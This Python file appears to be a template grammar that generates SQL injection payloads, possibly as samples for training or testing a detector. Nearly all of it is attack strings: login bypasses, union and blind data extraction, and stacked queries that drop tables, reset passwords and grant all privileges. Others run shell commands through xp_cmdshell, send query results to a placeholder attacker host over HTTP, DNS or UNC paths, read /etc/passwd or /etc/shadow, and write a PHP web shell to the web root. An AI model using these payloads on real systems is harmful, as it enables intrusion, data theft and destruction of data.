"""SQL injection: how a value leaves its quotes, and what each database is then told to do.

Forms after the manuals of MySQL, SQL Server, PostgreSQL, Oracle, SQLite and DB2, and the techniques
that sqlmap's documentation names: boolean, error-based, union, stacked, time-based, out-of-band.
"""

import random
import re

from models.generator.attacks.pieces import Grammar
from models.generator.attacks.sqli_symbols import SYMBOLS

_KEYWORD = re.compile(r"\b[A-Z][A-Z_]+\b")


def _cased(text: str, rng: random.Random) -> str:
    """SQL keywords (written in capitals here) in the case of one author."""
    style = rng.random()
    if style < 0.45:
        return _KEYWORD.sub(lambda word: word[0].lower(), text)
    return text if style < 0.85 else _KEYWORD.sub(lambda word: word[0].capitalize(), text)


_GRAMMAR = Grammar(SYMBOLS, finish=_cased)

# Tables: as many alternatives to a line as fit.
# fmt: off
RULES = _GRAMMAR.rules(
    classic=(
        "‹in›‹qq› OR 1=1‹cmt›", "‹in›‹qq› OR ‹d#1›=‹d#1›‹cmt›", "‹in›' OR '1'='1",
        "‹in›' OR 'a'='a", '‹in›" OR ""="', '‹in›" OR "1"="1', "‹in›') OR ('1'='1",
        "‹in›')) OR (('1'='1", "‹in›' OR 1=1 LIMIT ‹d›‹cmt›", "‹n› OR 1=1", "‹n› OR 1=1‹cmt›",
        "‹n› AND 1=‹d›", "‹n›' AND '1'='‹d›", "‹in›' OR 1 -- -", "‹in›' OR TRUE‹cmt›",
        "‹in›' || 1=1‹cmt›", "‹in›'; ‹abc?›‹cmt›", "‹in›' ‹cmt›",
    ),
    login_comment=(
        "‹user›‹q›‹sp?›‹cmt›", "‹user›‹q›‹sp?›‹or› ‹taut›‹cmt›", "‹user›'/*", "‹user›‹q›;‹cmt›",
    ),
    login_or=(
        "‹user?›‹q›‹sp›‹or›‹sp›‹taut›‹end›", "‹user?›‹qq#1› OR ‹qq#1›‹abc#1›‹qq#1›=‹qq#1›‹abc#1›",
        "‹user?›‹qq#1›)‹sp›OR‹sp›(‹qq#1›‹abc#1›‹qq#1›=‹qq#1›‹abc#1›", "‹user?›'='",
        "‹user?›' LIKE '‹%¦›", "‹user?›'OR''='", "‹user?›' OR ‹id› IS NOT NULL OR '‹abc›'='‹abc›",
        "‹user?›' OR 'x'='x'‹cmt›", "‹user?›' UNION SELECT '‹user›','‹hex›'‹cmt›",
        "‹user?›' UNION SELECT 1,'‹user›','‹hex›',1‹cmt›", "‹user?›' OR ‹id›='‹user›' ‹cmt›",
        "‹user?›'‹^¦*¦-¦+¦&¦%›'‹n?›", "‹user?›' ‹-¦&¦^¦*› '",
    ),
    boolean=(
        "‹out›‹sp›‹or›‹sp›‹taut›‹end›", "‹out› ‹or› ‹taut›", "‹in›‹q›‹or›‹q›‹abc›‹q›=‹q›‹abc›",
        "‹in›‹qq#1› ‹or› ‹qq#1›‹abc#1›‹qq#1›=‹qq#1›‹abc#1›",
        "‹in›‹qq#1›) ‹or› (‹qq#1›‹abc#1›‹qq#1›=‹qq#1›‹abc#1›",
        "‹in›‹q› ‹or› ‹taut› ‹or› ‹qq#1›‹abc#1›‹qq#1›=‹qq#1›‹abc›", "‹in›‹q›||(‹taut›)||'",
        "‹in›') ‹or› ('‹abc#1›'='‹abc#1›",
    ),
    boolean_number=(
        "‹num› ‹or› ‹nn#1›=‹nn#1›", "‹num› ‹or› ‹taut›‹end›", "‹num›)‹sp›‹or›‹sp›(‹n#1›=‹n#1›",
        "‹num›‹sp›‹or›‹sp›(‹taut›)", "‹n› ‹or› ‹n›‹op›‹n› ‹cmt›",
        "‹n›-(CASE WHEN ‹taut› THEN 0 ELSE 1 END)", "‹n›/(CASE WHEN (‹taut›) THEN 1 ELSE 0 END)",
        "IF(‹taut›,‹n›,‹n›)", "(SELECT ‹n› WHERE ‹taut›)",
        "‹n› RLIKE (SELECT (CASE WHEN (‹taut›) THEN ‹n› ELSE 0x‹hex2› END))",
        "‹n›‹&¦|›‹n› OR ‹taut›",
    ),
    probe=(
        '‹in›‹\'¦"›‹\'¦"›‹\'¦"›', "‹val›'||'‹abc›'||'", "‹val›'+'‹abc›'+'",
        '‹val›\'‹)¦))¦;¦))--¦)--¦ AND¦ OR¦ --¦;--¦/*¦"¦`¦`"\\¦`(\'›',
        '‹val›"‹)¦))¦;--¦)--¦ AND¦ OR¦ --¦/*¦\'()¦.,\'(›',
        '‹val›‹,.¦(\'¦.,(¦).¦(¦)›‹"¦\'›‹(¦)¦,¦.¦\'¦"›‹(¦)¦.¦"›‹(¦)¦.¦\'›‹(¦),¦\'›',
        '‹val›\'‹abc›<\'">‹abc›', "%27‹ ¦%20›‹or›%20‹taut›", '‹n›\'‹"¦)¦ ¦;›‹--¦#¦)--¦/*¦-- -›',
        "'; ‹or› ‹n#1›=‹n#1›--",
    ),
    case_oracle=(
        "‹out› ‹or› (CASE WHEN (‹taut›) THEN ‹n› ELSE ‹n› END)=‹n›‹end›",
        "‹out› AND ‹n›=(SELECT (CASE WHEN (‹taut›) THEN ‹n› ELSE (SELECT ‹n› UNION SELECT ‹n›) "
        "END))‹end›",
        "‹out› AND ‹ASCII¦ORD›(‹SUBSTRING¦MID¦SUBSTR›((‹sub›),‹n›,1))‹op›‹nc›‹end›",
        "‹out› AND ‹SUBSTRING¦MID¦SUBSTR›(‹ver›,‹d›,1)='‹d›'‹end›",
        "‹out› AND LEFT(‹ver›,1)‹op›'‹abc›'‹cmt›", "‹out› AND LENGTH((‹sub›))‹op›‹n›‹end›",
        "‹out› AND UNICODE(SUBSTRING((‹sub›),‹d›,1))>‹nc›‹end›", "‹out› AND EXISTS(‹sub›)‹end›",
        "‹out› AND (‹sub›)‹op›'‹abc›%'‹end›",
        "‹out› AND ORD(MID((IFNULL(CAST(‹ver› AS NCHAR),0x20)),‹n›,1))>‹nc›‹end›",
        "‹out› OR MAKE_SET(‹n#1›=‹n#1›,‹n›)‹end›", "‹out› OR ELT(‹n#1›=‹n#1›,‹n›)‹end›",
        "‹out› AND IF(SUBSTR(@@version,1,1)<‹d›,‹wait›,0)‹end›",
        "‹out›||(SELECT (CASE WHEN ‹taut› THEN TO_CHAR(1/0) ELSE '' END) FROM dual)||'",
    ),
    union=(
        "‹out› UNION ‹all›SELECT ‹cols›‹end›",
        "‹out›‹sp›UNION‹sp›‹all›SELECT‹sp›‹cols› FROM ‹tbl›‹end›",
        "‹out› UNION ‹all›SELECT ‹cols› FROM ‹tbl› WHERE ‹id›='‹id›'‹cmt›",
        "‹out› AND ‹taut› UNION ‹all›SELECT ‹cols›‹end›",
        "‹out› UNION SELECT ‹seq›,(‹sub›),‹nulls›‹cmt›",
        "‹out› LIMIT 0 UNION SELECT ‹cols› FROM ‹tbl›‹end›", "‹out› UNION(SELECT ‹cols›)‹end›",
        "‹out› UNION VALUES(‹cols›)‹cmt›",
    ),
    union_hidden=(
        "‹out›/*!‹nn?›UNION*//*!‹nn?›SELECT*/‹cols›‹end›",
        "‹out›/**/UNION/**/SELECT/**/‹cols›/**/FROM/**/‹tbl›‹cmt›",
        "‹out›+UNION+‹all›SELECT+‹cols›+FROM+‹tbl›‹cmt›", "‹out›%20UNION%20SELECT%20‹cols›‹cmt›",
        "‹out›%0aUNION%0a‹all›SELECT%0a‹cols›‹cmt›",
        "‹out›UNION(SELECT(‹u›),(‹u›),(‹ver›)FROM(‹tbl›))‹end›", "‹out› UnIoN SeLeCt ‹cols›‹end›",
        "‹out› UNUNIONION SELSELECTECT ‹cols›‹cmt›", "‹num›e‹d›UNION SELECT ‹cols›‹end›",
        "‹num›.UNION SELECT ‹cols›‹end›", "‹out›‹cmt›‹rand›\nUNION ‹cmt›‹rand›\nSELECT ‹cols›‹end›",
        "‹out› UNION SELECT * FROM (SELECT ‹d›)a JOIN (SELECT ‹d›)b JOIN (SELECT ‹ver›)c‹cmt›",
    ),
    columns=(
        "‹out› ORDER BY ‹n›‹cmt›", "‹out› ORDER BY ‹n›‹end›", "‹out› ORDER BY ‹seq›‹cmt›",
        "‹out› GROUP BY ‹seq›‹cmt›", "‹out› GROUP BY ‹id› HAVING ‹taut›‹cmt›",
        "‹out› HAVING ‹taut›‹cmt›", "‹out› PROCEDURE ANALYSE()‹cmt›",
        "‹out› LIMIT ‹n›,1 INTO @‹abc›,@‹abc›‹cmt›",
        "(SELECT ‹n› FROM (SELECT SLEEP(‹secs›))‹abc›)",
        "(CASE WHEN (‹taut›) THEN ‹id› ELSE (SELECT 1 FROM ‹tbl›) END)",
        "‹id›,(SELECT ‹col› FROM ‹tbl›)", "‹id› ASC,(SELECT ‹n› FROM ‹tbl›) DESC‹cmt›",
    ),
    stacked=(
        "‹out›;‹sp?›DROP ‹TABLE¦DATABASE¦VIEW› ‹tbl›‹cmt›",
        "‹out›; DROP TABLE ‹id›; SELECT * FROM ‹tbl› WHERE '‹abc#1›'='‹abc#1›",
        "‹out›;DELETE FROM ‹tbl›‹cmt›",
        "‹out›; INSERT INTO ‹tbl› (‹id›,‹id›) VALUES ('‹id›','‹rand›')‹cmt›",
        "‹out›; INSERT INTO ‹tbl› VALUES (‹n›,'‹id›','‹rand›')‹cmt›",
        "‹out›;UPDATE ‹tbl› SET ‹id›='‹rand›'‹ WHERE 1=1¦›‹cmt›",
        "‹out›; UPDATE ‹tbl› SET password='‹rand›' WHERE username='‹user›'‹cmt›",
        "‹out›;SELECT ‹col› FROM ‹tbl›‹cmt›", "‹out›; SHUTDOWN‹ WITH NOWAIT¦›‹cmt›",
        "‹out›; CREATE TABLE ‹id› (‹id› varchar(‹n›))‹cmt›", "‹out›; TRUNCATE TABLE ‹tbl›‹cmt›",
        "‹out›; GRANT ALL PRIVILEGES ON *.* TO '‹id›'@'%'‹cmt›",
        "‹out›; ALTER USER ‹id› IDENTIFIED BY ‹rand›‹cmt›",
        "‹n›;SELECT LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(‹heavy›/2))))‹cmt›",
        "‹out›; SET @‹abc#1›=0x‹hex›; PREPARE ‹abc#2› FROM @‹abc#1›; EXECUTE ‹abc#2›‹cmt›",
        "Robert'); DROP TABLE ‹id›;‹cmt›",
    ),
    mssql=(
        "‹out›; EXEC ‹master..¦master.dbo.¦›xp_cmdshell '‹shell›'‹cmt›",
        "‹out›;EXEC xp_dirtree '\\\\‹evil›\\‹abc›'‹cmt›",
        "‹out›; EXEC master..xp_fileexist '\\\\‹evil›\\‹abc›.txt'‹cmt›",
        "‹out›; EXEC sp_configure 'show advanced options',1; RECONFIGURE‹cmt›",
        "‹out›;DECLARE @‹abc#1› varchar(‹nn›) SET @‹abc#1›=CAST(0x‹hex› AS varchar) EXEC(@‹abc#1›)"
        "‹cmt›",
        "‹out›; EXEC sp_addlogin '‹id›','‹rand›'‹cmt›", "‹out›; EXEC('SELECT '+'‹ver›')‹cmt›",
        "‹out› AND 1=CONVERT(int,(‹sub›))‹cmt›",
        "‹out› AND ‹n› IN (SELECT (CHAR(‹nc›)+CHAR(‹nc›)+(SELECT (CASE WHEN (‹taut›) THEN CHAR(49)"
        " ELSE CHAR(48) END))+CHAR(‹nc›)))‹end›",
        "‹out›; BULK INSERT ‹id› FROM 'c:\\‹id›\\‹id›.txt'‹cmt›",
        "‹out›;SELECT * FROM OPENROWSET('SQLOLEDB','‹evil›';'sa';'‹rand›','SELECT 1')‹cmt›",
        "‹out› AND 1=(SELECT @@version)‹cmt›",
    ),
    time_mysql=(
        "‹out› ‹or› SLEEP(‹secs›)‹end›",
        "‹out› ‹or› (SELECT ‹nn› FROM (SELECT(SLEEP(‹secs›)))‹big›)‹end›",
        "‹out› ‹or› IF(‹taut›,SLEEP(‹secs›),‹n›)‹end›",
        "‹out› ‹or› BENCHMARK(‹heavy›,‹MD5¦SHA1¦ENCODE›(‹n›))‹end›",
        "if(now()=sysdate(),sleep(‹secs›),0)",
        "‹in›'XOR(if(now()=sysdate(),sleep(‹secs›),0))XOR'‹abc›",
        '‹in›"XOR(if(now()=sysdate(),sleep(‹secs›),0))XOR"‹abc›',
        "(select(0)from(select(sleep(‹secs›)))v)/*'+(select(0)from(select(sleep(‹secs›)))v)+'*/",
        "‹out› AND (SELECT * FROM (SELECT(SLEEP(‹secs›-(IF(‹taut›,0,5)))))‹abc›)‹end›",
        "‹out›-SLEEP(‹secs›)‹cmt›", "‹out›&&SLEEP(‹secs›)‹&&'1¦#›",
        "‹out›‹+¦*¦-›(SELECT‹sp›SLEEP(‹secs›))‹+'¦›",
    ),
    time_others=(
        "‹out›‹;¦ ›WAITFOR DELAY '0:0:‹secs›'‹end›",
        "‹out›;IF(‹taut›) WAITFOR DELAY '00:00:0‹d›'‹cmt›", "‹out›;SELECT PG_SLEEP(‹secs›)‹end›",
        "‹out›||PG_SLEEP(‹secs›)‹cmt›",
        "‹out› ‹or› ‹n#1›=(SELECT ‹n#1› FROM PG_SLEEP(‹secs›))‹end›",
        "‹out› AND (CASE WHEN ‹taut› THEN PG_SLEEP(‹secs›) ELSE PG_SLEEP(0) END) IS NULL‹cmt›",
        "‹out› ‹or› ‹n›=DBMS_PIPE.RECEIVE_MESSAGE(‹chr›,‹secs›)‹end›",
        "‹out›||DBMS_PIPE.RECEIVE_MESSAGE(‹chr›,‹secs›)||'",
        "‹out›; BEGIN DBMS_LOCK.SLEEP(‹secs›); END;‹cmt›",
        "‹out› AND ‹n›=(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3)‹end›",
        "‹out› AND ‹n›=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(‹heavy›))))‹end›",
        "‹out› AND ‹n›=(SELECT COUNT(*) FROM sysibm.systables t1,sysibm.systables t2)‹end›",
        "‹out› AND ‹n›=(SELECT COUNT(*) FROM GENERATE_SERIES(1,‹heavy›))‹end›",
        "‹n›;DO SLEEP(‹secs›)‹cmt›", "‹out› WAITFOR TIME '‹d›:‹d›:0‹d›'‹cmt›",
    ),
    error=(
        "‹out› AND EXTRACTVALUE(‹nn›,CONCAT(0x5c,0x‹hex›,(‹sub›),0x‹hex›))‹end›",
        "‹out› AND UPDATEXML(‹n›,CONCAT(0x‹7e¦2e¦5e›,(‹sub›),0x7e),‹n›)‹end›",
        "‹out› AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((‹sub›),FLOOR(RAND(0)*2))x FROM "
        "information_schema.‹tables¦character_sets¦plugins› GROUP BY x)a)‹end›",
        "‹out› AND GTID_SUBSET(CONCAT(0x‹hex›,(‹sub›),0x‹hex›),‹nn›)‹end›",
        "‹out› AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,(‹sub›))) USING utf8)))‹end›",
        "‹out› AND EXP(~(SELECT * FROM (‹sub›)x))‹end›",
        "‹out› AND ‹n›=CAST((‹chr›)||(‹sub›)::text||(‹chr›) AS NUMERIC)‹end›",
        "‹out› AND 1=CAST((‹sub›) AS int)‹cmt›", "‹out› AND 1=CTXSYS.DRITHSX.SN(‹n›,(‹sub›))‹end›",
        "‹out› AND 1=UTL_INADDR.GET_HOST_NAME((‹sub›))‹end›",
        "‹out› AND ‹n›=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||‹chr›||(‹sub›)||‹chr›)) FROM DUAL)"
        "‹end›",
        "‹out› AND ‹n› IN (SELECT ('~'+(‹sub›)+'~'))‹end›",
        "‹out› AND ROW(‹nn›,‹nn›)>(SELECT COUNT(*),CONCAT(‹ver›,FLOOR(RAND(0)*2))x FROM (SELECT 1 "
        "UNION SELECT 2)a GROUP BY x)‹end›",
        "(SELECT CONCAT(CONCAT('q‹abc›q',(CASE WHEN (‹taut›) THEN '1' ELSE '0' END)),'q‹abc›q'))",
        "‹out› AND 1/(SELECT 0 FROM ‹tbl›)‹end›",
    ),
    out_of_band=(
        "‹out› UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(‹sub›),'.‹evil›\\\\‹abc›'))‹cmt›",
        "‹out›||UTL_HTTP.REQUEST('http://‹evil›/'||(‹sub›))‹end›",
        '‹out› UNION SELECT EXTRACTVALUE(xmltype(\'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % '
        '‹abc› SYSTEM "http://‹evil›/"> %‹abc›;]>\'),\'/l\') FROM dual‹cmt›',
        "‹out›; COPY (SELECT '') TO PROGRAM 'nslookup ‹evil›'‹cmt›",
        "‹out›;COPY ‹id› FROM PROGRAM '‹shell›'‹cmt›",
        "‹out›; SELECT DBLINK_CONNECT('host=‹evil› user=‹id›')‹cmt›",
        "‹out› AND DBMS_LDAP.INIT(('‹evil›',80))=1‹end›",
        "‹out›;SELECT lo_import('/etc/passwd')‹cmt›",
        "‹out› UNION SELECT pg_read_file('/etc/passwd',0,‹nn›)‹cmt›",
    ),
    files=(
        '‹out› UNION SELECT \'<?php system($_GET["‹abc›"]);?>\' INTO OUTFILE '
        "'/var/www/‹id›.php'‹cmt›",
        "‹out› INTO ‹OUTFILE¦DUMPFILE› '‹/tmp/¦/var/www/html/¦c:/inetpub/›‹id›.‹txt¦php›'‹cmt›",
        "‹out› UNION SELECT LOAD_FILE('‹/etc/passwd¦/etc/shadow¦c:/boot.ini›'),‹nulls›‹cmt›",
        "‹out› UNION SELECT LOAD_FILE(0x2f6574632f‹hex›)‹cmt›",
        "‹out› INTO OUTFILE '/‹id›/‹id›' LINES TERMINATED BY 0x‹hex›‹cmt›",
        "‹out›; ATTACH DATABASE '/var/www/‹id›.php' AS ‹abc›‹cmt›",
        "‹out›;SELECT load_extension('\\\\‹evil›\\‹abc›.dll')‹cmt›",
    ),
    hex_and_char=(
        "‹out› ‹or› CHAR(‹nc›)=CHAR(‹nc›)‹end›", "‹out› ‹or› 0x‹hex#1›=0x‹hex#1›‹end›",
        "‹out› UNION SELECT CHAR(‹nc›,‹nc›,‹nc›,‹nc›),‹cols›‹cmt›",
        "‹out›||CHR(‹nc›)||CHR(‹nc›)||CHR(‹nc›)||'", "‹out›+CHAR(‹nc›)+CHAR(‹nc›)+(‹sub›)+'",
        "‹in›%df' ‹or› ‹taut›‹cmt›", "‹in›%bf%27 ‹or› ‹taut›‹cmt›",
        "‹out› ‹or› UNHEX('‹hex›')=UNHEX('‹hex›')‹cmt›", "‹out› AND @@version LIKE 0x‹hex›‹cmt›",
        "‹n›^(‹sub›)^‹n›", "0'^(LOCATE(0x‹hex›,(‹sub›),1)>0)^'‹n›",
    ),
    operators=(
        "‹in›'||(‹sub›)||'", "‹in›'+(‹sub›)+'", "‹n›‹-¦*¦+¦/›(‹sub›)", "'-IF(‹taut›,‹n›,‹wait›)-'",
        "‹in›' ‹DIV¦MOD¦XOR¦IS¦<=>› ‹n› ‹end›", "‹in›'||‹wait›||'", "'=0‹cmt›",
        "'‹<¦>¦+¦-¦^¦*›‹nn›‹cmt›", "‹in›'-0-'‹n?›", "‹in›'&&‹n#1›=‹n#1›‹#¦&&'¦--+›",
        "‹in›'||‹n#1›=‹n#1›‹#¦||'¦--+›", "‹in›\\' ‹or› ‹taut› ‹cmt›", "‹in›'=(‹d#1›)='‹d#1›",
    ),
    whole_statement=(
        "‹sub›‹;¦›", "SELECT ‹cols› FROM ‹tbl› WHERE ‹id› = ‹n› UNION ‹sub›",
        "DROP TABLE ‹IF EXISTS ¦›‹tbl›;‹--¦›",
        "INSERT INTO ‹tbl› (‹id›, ‹id›) VALUES ('‹id›', '‹rand›');",
        "DELETE FROM ‹tbl› WHERE ‹taut›‹;¦--›", "UPDATE ‹tbl› SET ‹id› = '‹rand›' WHERE ‹taut›;",
        "(‹sub›)", "EXEC xp_cmdshell('‹shell›');",
        "DECLARE @‹abc#1› NVARCHAR(‹nn›);SET @‹abc#1›=N'‹shell›';EXEC xp_cmdshell @‹abc#1›",
    ),
    json_and_orm=(
        '‹in›\' AND JSON_EXTRACT(\'{"‹abc›": 1}\', \'$.‹abc›\') = 1‹end›',
        '‹in›\' OR \'{"‹abc#1›":2}\'::jsonb @> \'{"‹abc#1›":2}\'::jsonb‹cmt›',
        "‹in›' OR JSON_LENGTH('{}')<=‹d›‹cmt›", "‹in›' OR JSON_DEPTH('[]')<>‹n›‹cmt›",
        "‹in›') OR ST_‹Intersects¦LatFromGeoHash›((‹sub›))‹cmt›",
        '‹in›\' AND ‹n›=(SELECT * FROM OPENJSON(\'{"‹abc›":1}\'))‹cmt›',
        "‹id›->>'‹abc›') = '‹n#1›' OR ‹n#1›=‹n#1›‹cmt›", '{"‹id›":"‹in›\' OR ‹taut›‹cmt›"}',
    ),
)
